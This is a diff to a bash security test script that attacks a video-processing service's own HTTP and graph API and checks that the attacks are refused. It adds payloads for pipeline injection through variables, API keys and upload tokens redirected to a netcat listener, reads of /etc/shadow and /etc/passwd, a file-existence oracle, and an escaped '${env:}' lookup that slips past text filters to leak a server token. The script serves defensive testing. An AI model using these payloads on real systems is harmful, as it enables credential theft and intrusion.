@@ -6,8 +6,8 @@
 #   tests/security/attack.sh http://127.0.0.1:8080 TOKEN [--only http|graph]
 #
 # "http" attacks the HTTP API itself; "graph" submits graphs that try to escape
-# through their variables or an upload (refused by the framework's checks: until
-# those land, these are expected to get through). Needs bash, curl, gzip, and nc
+# through their variables or an upload (refused by the graph loader's and the
+# validator's checks, docs/security.md). Needs bash, curl, gzip, and nc
 # (netcat-openbsd) for the listener the graph attacks point at.
 #
 # A harness that planted files may name them (tests/service/attack_script_test.cpp):
@@ -314,17 +314,48 @@ graph_attack() {
   fi
 }
 
+# Whether a refusal tells an existing file from a missing one: the answers to two
+# paths must differ only by the path itself.
+existence_oracle() {
+  local a b
+  submit '{"graph":"shot-detect","variables":{"video":"/etc/hostname"}}'
+  a=$(sed 's#/etc/hostname#PATH#g' "$TMP/body")
+  forget_jobs
+  submit '{"graph":"shot-detect","variables":{"video":"/no/such/file"}}'
+  b=$(sed 's#/no/such/file#PATH#g' "$TMP/body")
+  forget_jobs
+  if [[ $SUBMITTED == 201 ]]; then
+    verdict "existence oracle through a path variable" through "a job may name a path"
+  elif [[ $a == "$b" ]]; then
+    verdict "existence oracle through a path variable" refused
+  else
+    verdict "existence oracle through a path variable" through "the answers differ"
+  fi
+}
+
 graph_attacks() {
   LISTEN_PORT=9
   start_listener
   local P=$LISTEN_PORT
-  echo "note: the graph attacks are refused by the framework's checks; until those land they get through" >&2
   graph_attack "pipeline injection through a variable" \
     '{"graph":"live-shot-detect","variables":{"frames":"10"}}' \
     "{\"graph\":\"live-shot-detect\",\"variables\":{\"frames\":\"10 ! fakesink videotestsrc num-buffers=10 ! tcpclientsink host=127.0.0.1 port=$P\"}}"
   graph_attack "API key sent to another base URL" \
     '{"graph":"short-video-openai"}' \
     "{\"graph\":\"short-video-openai\",\"variables\":{\"openai_base_url\":\"http://127.0.0.1:$P\"}}"
+  graph_attack "photo search key sent to another URL" \
+    '{"graph":"short-video-openai"}' \
+    "{\"graph\":\"short-video-openai\",\"variables\":{\"photo_search_url\":\"http://127.0.0.1:$P/search\"}}"
+  graph_attack "upload token sent to another URL" \
+    '{"graph":"short-video-openai"}' \
+    "{\"graph\":\"short-video-openai\",\"variables\":{\"upload_url\":\"http://127.0.0.1:$P/dav\"}}"
+  graph_attack "a job sets a path the graph keeps for its runner" \
+    '{"graph":"shot-detect"}' \
+    '{"graph":"shot-detect","variables":{"video":"/etc/shadow"}}'
+  graph_attack "pipeline syntax through a number" \
+    '{"graph":"live-shot-detect","variables":{"frames":"10"}}' \
+    '{"graph":"live-shot-detect","variables":{"frames":"1e3 ! filesink location=/tmp/x"}}'
+  existence_oracle
   graph_attack "voice path traversal" \
     '{"graph":"short-video","variables":{"voice":"en"}}' \
     '{"graph":"short-video","variables":{"voice":"../../../../etc/passwd"}}'
@@ -335,6 +366,13 @@ graph_attacks() {
     long_id=$(head -c 300 /dev/zero | tr '\0' 'a')
     graph_attack "uploaded graph with a 300-character stage id" \
       "{\"graph_yaml\":\"${graph//%s/probe}\"}" "{\"graph_yaml\":\"${graph//%s/$long_id}\"}"
+    graph_attack "uploaded graph with a key written twice" \
+      "{\"graph_yaml\":\"${graph//%s/probe}\"}" "{\"graph_yaml\":\"${graph//%s/probe}    timeout: 1s\\n    timeout: 5m\\n\"}"
+    # "\x24" is "$" once YAML reads it: a text search for "${env:" would miss it.
+    local reads_env=${graph//%s/probe} env_name='\"\\x24{env:REELFLOW_API_TOKEN}.mp4\"'
+    reads_env=${reads_env//probe.mp4/"$env_name"}
+    graph_attack "uploaded graph that reads the server's environment" \
+      "{\"graph_yaml\":\"${graph//%s/probe}\"}" "{\"graph_yaml\":\"$reads_env\"}"
   else
     echo "note: uploads are off on this server: the upload attack is not tried" >&2
   fi
